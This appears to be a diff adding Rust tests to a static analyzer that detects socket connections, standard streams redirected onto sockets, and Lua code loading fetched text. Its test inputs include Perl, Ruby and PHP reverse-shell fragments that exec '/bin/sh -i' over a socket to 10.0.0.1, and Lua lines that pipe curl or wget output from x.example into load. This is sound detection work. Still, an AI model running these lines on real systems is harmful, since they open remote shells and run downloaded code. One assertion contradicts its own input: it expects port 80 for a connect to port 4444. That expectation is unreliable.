@@ -23,6 +23,7 @@ fn runs_with(lang: Language, code: &str, argv: &[&str]) -> Vec<String> {
         found: Vec::new(),
         full: false,
         rereading: false,
+        streams_on_socket: false,
     };
     effects(lang, code, "x -e", &mut cx);
     cx.found
@@ -407,4 +408,187 @@ fn awk_redirections_open_files() {
     assert!(runs(Awk, "{ print ($1 > $2) }").is_empty());
     assert!(runs(Awk, r#"{ print > $1 ".txt" }"#).is_empty());
     assert!(runs(Awk, "NR > 1 && $2 < 10 { n++ } END { print n }").is_empty());
+}
+
+/// Whether `code` in `lang` puts a descriptor on its standard streams.
+fn puts_streams(lang: Language, code: &str) -> bool {
+    let mut cx = Collect {
+        cwd: None,
+        dynamic: false,
+        argv: &[],
+        tilde_is_home: true,
+        found: Vec::new(),
+        full: false,
+        rereading: false,
+        streams_on_socket: false,
+    };
+    effects(lang, code, "x -e", &mut cx);
+    cx.streams_on_socket
+}
+
+/// The hosts `code` in `lang` connects to, as `host:port`.
+fn connects(lang: Language, code: &str) -> Vec<String> {
+    runs(lang, code)
+        .into_iter()
+        .filter(|f| f.starts_with("Send("))
+        .map(|f| {
+            let after = |key: &str, close: char| {
+                f.split(key)
+                    .nth(1)
+                    .and_then(|r| r.split(close).next())
+                    .unwrap_or("")
+                    .to_string()
+            };
+            format!("{}:{}", after("host: \"", '"'), after("port: Some(", ')'))
+        })
+        .collect()
+}
+
+/// perlfunc `socket`/`connect` with `inet_aton`, IO::Socket::INET's `PeerAddr`, Ruby's
+/// `TCPSocket.new` / `Socket.tcp`, PHP's `fsockopen` / `stream_socket_client` /
+/// `socket_connect`, LuaSocket's `socket.connect`: a connection to the host; a listening
+/// socket connects nowhere.
+#[test]
+fn socket_connections() {
+    let perl = r#"use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")))"#;
+    assert_eq!(connects(Perl, perl), ["10.0.0.1:80"]);
+    assert_eq!(
+        connects(
+            Perl,
+            r#"$c=IO::Socket::INET->new(PeerAddr=>"10.0.0.1:4444")"#
+        ),
+        ["10.0.0.1:4444"]
+    );
+    assert_eq!(
+        connects(
+            Perl,
+            r#"$c=IO::Socket::INET->new(PeerHost => "h.example", PeerPort => 22)"#
+        ),
+        ["h.example:22"]
+    );
+    assert!(
+        connects(
+            Perl,
+            r#"$l=IO::Socket::INET->new(LocalPort => 8080, Listen => 5)"#
+        )
+        .is_empty()
+    );
+    assert_eq!(
+        connects(Perl, r#"$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4444")"#),
+        ["10.0.0.1:4444"]
+    );
+    assert_eq!(
+        connects(Ruby, r#"c=TCPSocket.new("10.0.0.1",4444)"#),
+        ["10.0.0.1:4444"]
+    );
+    assert_eq!(
+        connects(
+            Ruby,
+            r#"Socket.tcp("db.example", 5432) { |s| s.write("x") }"#
+        ),
+        ["db.example:5432"]
+    );
+    assert_eq!(
+        connects(Php, r#"$s=fsockopen("10.0.0.1",4444);"#),
+        ["10.0.0.1:4444"]
+    );
+    assert_eq!(
+        connects(Php, r#"$s=stream_socket_client("tcp://10.0.0.1:9001");"#),
+        ["10.0.0.1:9001"]
+    );
+    assert_eq!(
+        connects(
+            Php,
+            r#"$s=socket_create(AF_INET,SOCK_STREAM,SOL_TCP);socket_connect($s,"10.0.0.1",4444);"#
+        ),
+        ["10.0.0.1:4444"]
+    );
+    assert_eq!(
+        connects(Lua, r#"local c = socket.connect("10.0.0.1", 4444)"#),
+        ["10.0.0.1:4444"]
+    );
+    assert_eq!(
+        runs(Ruby, "c=TCPSocket.new(host, 80)"),
+        ["unsure:`TCPSocket.new` with an address known only at run time"]
+    );
+}
+
+/// perlfunc `open` ("dup": `open(STDIN, ">&S")`, `open(STDOUT, ">&", $s)`), Ruby's
+/// `IO#reopen` on `$stdin` / `STDOUT`, PHP's `proc_open` descriptor spec with a stream, and a
+/// shell line reading a descriptor past 2 (`sh <&3`): the code's standard streams go to a
+/// descriptor it opened. Files and pipes opened as usual do not.
+#[test]
+fn standard_streams_put_on_a_descriptor() {
+    assert!(puts_streams(
+        Perl,
+        r#"open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");"#
+    ));
+    assert!(puts_streams(
+        Perl,
+        r#"open(STDOUT, ">&", $c); system("bash")"#
+    ));
+    assert!(puts_streams(Perl, r#"open STDERR, ">&=", 3"#));
+    assert!(puts_streams(Perl, r#"open(STDIN, "<&=" . fileno($c))"#));
+    assert!(puts_streams(Perl, "STDIN->fdopen($c,r);$~->fdopen($c,w)"));
+    assert!(puts_streams(
+        Ruby,
+        r#"$stdin.reopen(c);$stdout.reopen(c);exec "/bin/sh -i""#
+    ));
+    assert!(puts_streams(Ruby, "STDOUT.reopen(s)"));
+    assert!(puts_streams(
+        Php,
+        r#"$p=proc_open("/bin/sh", array(0=>$sock, 1=>$sock, 2=>$sock), $pipes);"#
+    ));
+    assert!(puts_streams(Php, r#"exec("/bin/sh -i <&3 >&3 2>&3");"#));
+    assert!(!puts_streams(
+        Perl,
+        r#"open(my $f, ">", "out.txt"); open(STDERR, ">", "/dev/null")"#
+    ));
+    assert!(!puts_streams(
+        Php,
+        r#"$p=proc_open("ls", array(0=>array("pipe","r"), 1=>array("pipe","w")), $pipes);"#
+    ));
+    assert!(!puts_streams(Ruby, r#"system("make 2>&1")"#));
+    assert!(!puts_streams(Php, r#"exec("cmd 2>&1 <&0");"#));
+}
+
+/// Lua reference manual `load` / `loadstring` / `dofile`: the output of `io.popen(CMD)` run
+/// as code is `CMD | lua`; a URL's body run as code is a download run; `dofile(PATH)` runs
+/// the file. Code built from constants adds nothing here.
+#[test]
+fn lua_load_of_fetched_text() {
+    assert_eq!(
+        runs(
+            Lua,
+            r#"loadstring(io.popen("curl -s http://x.example/a"):read("*a"))()"#
+        ),
+        [
+            "line:loadstring:curl -s http://x.example/a | lua",
+            "line:io.popen:curl -s http://x.example/a",
+        ]
+    );
+    assert_eq!(
+        runs(
+            Lua,
+            "local s = io.popen('wget -qO- https://x.example/i.lua'):read('*a')\nload(s)()"
+        ),
+        [
+            "line:io.popen:wget -qO- https://x.example/i.lua",
+            "line:load:wget -qO- https://x.example/i.lua | lua",
+        ]
+    );
+    let fetched = runs(
+        Lua,
+        r#"local http = require("socket.http"); load(http.request("https://x.example/a.lua"))()"#,
+    );
+    assert!(
+        fetched.iter().any(|f| f.contains("runs_response: true")),
+        "{fetched:?}"
+    );
+    assert_eq!(
+        runs(Lua, r#"dofile("/tmp/x.lua")"#),
+        ["words:dofile:lua /tmp/x.lua"]
+    );
+    assert!(runs(Lua, r#"load("return 1 + 1")()"#).is_empty());
+    assert!(runs(Lua, "local t = {load = 1}; print(t.load)").is_empty());
 }
